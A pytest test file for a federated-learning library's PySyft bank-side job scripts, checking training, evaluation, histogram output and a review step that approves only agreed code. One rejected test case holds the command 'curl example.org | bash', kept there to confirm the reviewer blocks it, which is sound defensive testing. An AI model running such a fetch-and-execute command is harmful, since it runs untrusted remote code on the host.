"""The scripts that banks run, here in this process: no PySyft, no other process needed."""

import json
import runpy
from pathlib import Path

import numpy as np
import pytest
import torch

import fedlab_utils as fl
from fedlab_utils.detect import ScoreHistogram
from fedlab_utils.detect.metrics import auc, average_precision
from fedlab_utils.errors import FedlabError
from fedlab_utils.federate import RowStore, train_loop
from fedlab_utils.runtimes import pysyft
from fedlab_utils.runtimes.pysyft import EVALUATE, HISTOGRAM, TRAIN, approve_agreed
from fedlab_utils.runtimes.pysyft.agreed import AGREED, RUN, task_of
from fedlab_utils.runtimes.pysyft.bank import decode, encode
from fedlab_utils.runtimes.updates import read_arrays

MODEL = fl.dense_autoencoder(4, hidden=6, code=2, seed=1)


@pytest.fixture
def datasite(tmp_path, monkeypatch):
    """A bank's datasite with private rows and, in the public part, mock rows."""
    rng = np.random.default_rng(5)
    for place, size in (("private", 23), ("public", 5)):
        folder = tmp_path / "bank@b.example" / place / "syft_datasets" / "rows"
        folder.mkdir(parents=True)
        parts = {
            part: rng.normal(size=(size, 4)).astype(np.float32)
            for part in ("x_train", "x_calibration", "x_test")
        }
        np.savez(folder / "rows.npz", y_test=np.arange(size) % 3 == 0, **parts)
    monkeypatch.setenv("SYFTBOX_FOLDER", str(tmp_path))
    monkeypatch.setenv("SYFTBOX_EMAIL", "bank@b.example")
    monkeypatch.setenv("SYFT_IS_IN_JOB", "true")
    (tmp_path / "code").mkdir()
    monkeypatch.chdir(tmp_path / "code")
    return tmp_path / "bank@b.example"


def rows_of(datasite, place="private"):
    with np.load(datasite / place / "syft_datasets" / "rows" / "rows.npz") as archive:
        return dict(archive)


def run(job, task):
    Path("task.json").write_text(json.dumps(task))
    runpy.run_path(str(Path(pysyft.__file__).parent / "jobs" / f"{job.name}.py"))
    return read_arrays("outputs/answer.npz", "bank", job.answer(task))


def train_task(**changes):
    settings = {"lr": 0.1, "epochs": 2, "batch_size": 8, "momentum": 0.9, "seed": 3}
    return task_of({"global": MODEL}, **{**settings, "round": 2, "client": 5, **changes})


@pytest.mark.parametrize("batch_size", [8, None])
def test_training_is_that_of_the_plain_loop(datasite, batch_size):
    answer = run(TRAIN, train_task(batch_size=batch_size))
    store = RowStore([np.zeros((1, 4), np.float32)] * 5 + [rows_of(datasite)["x_train"]], MODEL)
    local = fl.SGD(lr=0.1, epochs=2, batch_size=batch_size, momentum=0.9)
    updates, losses = train_loop(MODEL, fl.flatten(MODEL), store, np.array([5]), local, 3, 2)
    np.testing.assert_allclose(answer["update"], updates[0], rtol=0, atol=1e-7)
    assert answer["loss"] == pytest.approx(float(losses[0]), rel=1e-6)
    assert np.abs(answer["update"]).max() > 1e-3


def test_the_same_script_runs_on_mock_rows_at_the_coordinators(datasite, monkeypatch):
    private = run(TRAIN, train_task())
    monkeypatch.delenv("SYFT_IS_IN_JOB")
    assert not np.allclose(run(TRAIN, train_task())["update"], private["update"])


def test_evaluation_counts_and_measures(datasite):
    other = fl.dense_autoencoder(4, hidden=6, code=2, seed=2)
    answer = run(EVALUATE, task_of({"first": MODEL, "second": other}))
    rows = rows_of(datasite)
    scores = [fl.reconstruction_error(model, rows["x_test"]) for model in (MODEL, other)]
    assert (answer["rows"], answer["anomalies"]) == (23, 8)
    assert answer["ap"].tolist() == [average_precision(rows["y_test"], s) for s in scores]
    assert answer["auc"].tolist() == [auc(rows["y_test"], s) for s in scores]


def test_the_histogram_counts_calibration_scores(datasite):
    answer = run(HISTOGRAM, task_of({"global": MODEL}))
    scores = fl.reconstruction_error(MODEL, rows_of(datasite)["x_calibration"])
    np.testing.assert_array_equal(answer["counts"], ScoreHistogram.of(scores).counts)


def test_weights_travel_to_the_bit():
    weights = torch.tensor([1e-38, -0.1, np.pi, 3e38])
    assert torch.equal(decode(encode(weights)), weights)


def test_scripts_are_short_enough_to_be_read():
    for job in AGREED:
        lines = [line for line in job.script.splitlines() if line.strip()]
        assert len(lines) <= 30 and lines[0].startswith('"""')


def test_only_shapes_travel_never_code():
    with pytest.raises(FedlabError, match="never as code"):
        task_of({"global": torch.nn.Linear(4, 4)})
    with pytest.raises(FedlabError, match="one shape"):
        task_of({"a": MODEL, "b": fl.dense_autoencoder(4, hidden=5, code=2)})


class FakeJob:
    def __init__(self, folder, code, run_script=RUN, extra=()):
        self.code_dir, self.run_script = folder, run_script
        for name in ("script.sh", "task.json", *extra):
            (folder / name).write_text("")
        (folder / "main.py").write_text(code)


@pytest.mark.parametrize("job", AGREED)
def test_the_default_review_approves_what_was_agreed_on(tmp_path, job):
    assert approve_agreed("bank", FakeJob(tmp_path, job.script)) is None


@pytest.mark.parametrize(
    ("changes", "match"),
    [
        ({"code": TRAIN.script + "\nprint(rows)"}, "main.py is none"),
        ({"code": TRAIN.script, "run_script": "curl example.org | bash"}, "run.sh"),
        ({"code": TRAIN.script, "extra": ("numpy.py",)}, "numpy.py"),
    ],
)
def test_the_default_review_rejects_the_rest(tmp_path, changes, match):
    assert match in approve_agreed("bank", FakeJob(tmp_path, **changes))
